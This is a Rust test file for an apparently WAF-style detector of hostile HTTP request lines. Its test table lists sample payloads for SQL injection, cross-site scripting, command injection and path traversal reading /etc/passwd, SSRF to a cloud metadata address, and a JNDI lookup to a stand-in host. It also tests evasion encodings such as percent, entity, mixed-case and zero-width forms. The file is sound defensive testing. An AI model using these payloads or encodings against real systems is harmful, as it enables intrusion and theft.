use serde_json::{Value, json};

use super::rules::RULES;
use super::*;

fn run(line: &str, paranoia: u8) -> Value {
    crate::FAMILY.run(146, json!({ "line": line, "paranoia": paranoia }), &Context::default()).unwrap()
}

fn groups(line: &str) -> Vec<String> {
    run(line, 1)["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["rule"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn every_pattern_is_one() {
    for rule in &RULES {
        assert!(rule.pattern().is_some(), "{}: {}", rule.group, rule.evidence);
    }
}

/// Classes of payloads of the Core Rule Set's groups 930 to 944, written anew.
#[test]
fn payloads_fire_in_each_encoding() {
    for (payload, group) in [
        ("' or '1'='1", "sql-injection"),
        ("1 union all select null,version()", "sql-injection"),
        ("1'; drop table users", "sql-injection"),
        ("<script>alert(1)</script>", "cross-site-scripting"),
        ("<img src=x onerror=alert(1)>", "cross-site-scripting"),
        ("; cat /etc/passwd", "command-injection"),
        ("../../../../etc/passwd", "path-traversal"),
        ("url=http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("{{7*7}}", "template-injection"),
        ("${jndi:ldap://x.example/a}", "jndi-injection"),
    ] {
        let percent = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
        let entities: String = payload.chars().map(|letter| format!("&#{};", u32::from(letter))).collect();
        let mixed: String = payload
            .char_indices()
            .map(|(at, letter)| if at % 2 == 0 { letter.to_ascii_uppercase() } else { letter })
            .collect();
        let zero_width: String = payload.chars().flat_map(|letter| [letter, '\u{200b}']).collect();
        let once = percent(payload);
        for form in [payload.to_owned(), once.clone(), once.replace('%', "%25"), entities, mixed, zero_width] {
            assert!(groups(&format!("GET /x?q={form} HTTP/1.1")).contains(&group.to_owned()), "{group}: {form}");
        }
    }
}

#[test]
fn adding_text_never_lowers_the_score() {
    let line = "GET /x?q=%27%20OR%20%271%27=%271 HTTP/1.1";
    let alone = run(line, 1);
    for more in ["harmless words", "\u{0}\u{202e}", "/* */ -- #", "aGVsbG8gd29ybGQgaGVsbG8=", "\"'`"] {
        for text in [format!("{line}\n{more}"), format!("{more}\n{line}")] {
            let both = run(&text, 1);
            assert!(both["score"].as_f64() >= alone["score"].as_f64(), "{text}");
            assert!(both["anomaly_score"].as_i64() >= alone["anomaly_score"].as_i64(), "{text}");
        }
    }
}

#[test]
fn the_evidence_is_not_the_payload() {
    let output = run("GET /?q=' or 'hunter2'='hunter2", 1).to_string();
    assert!(output.contains("sql-injection") && !output.contains("hunter2"));
}

/// 200 harmless request lines: 20 paths, 10 queries each.
#[test]
fn false_alarms_on_200_harmless_lines() {
    let paths = [
        "/",
        "/index.html",
        "/api/v1/users/42",
        "/search",
        "/css/site.min.css?v=3",
        "/blog/2026/01/02/selecting-a-union-rep",
        "/wiki/O%27Brien",
        "/images/..hidden.png",
        "/download/report(1).pdf",
        "/cart;jsessionid=AB12",
        "/de/m%C3%BCnchen",
        "/a/b/c/d/e",
        "/order/by/name",
        "/.well-known/security.txt",
        "/feed.xml",
        "/static/js/app.js",
        "/users/drop-off-points",
        "/help/select-from-list",
        "/docs/shell-script",
        "/q/1=1",
    ];
    let queries = [
        "q=rock+and+roll",
        "name=Conan+O%27Neil",
        "q=cats+%26+dogs",
        "q=price+%3C+100",
        "redirect=%2Faccount%2Fhome",
        "q=R%26D+or+marketing",
        "text=Select+an+option+from+the+menu",
        "msg=Union+members+select+a+chair",
        "url=https%3A%2F%2Fexample.org%2Fa",
        "note=it%27s+5+o%27clock+--+call+me",
    ];
    let mut alarms = Vec::new();
    for path in paths {
        for query in queries {
            let line = format!("GET {path}{}{query} HTTP/1.1", if path.contains('?') { '&' } else { '?' });
            if !groups(&line).is_empty() {
                alarms.push(line);
            }
        }
    }
    assert!(alarms.is_empty(), "{} of 200: {alarms:#?}", alarms.len());
}
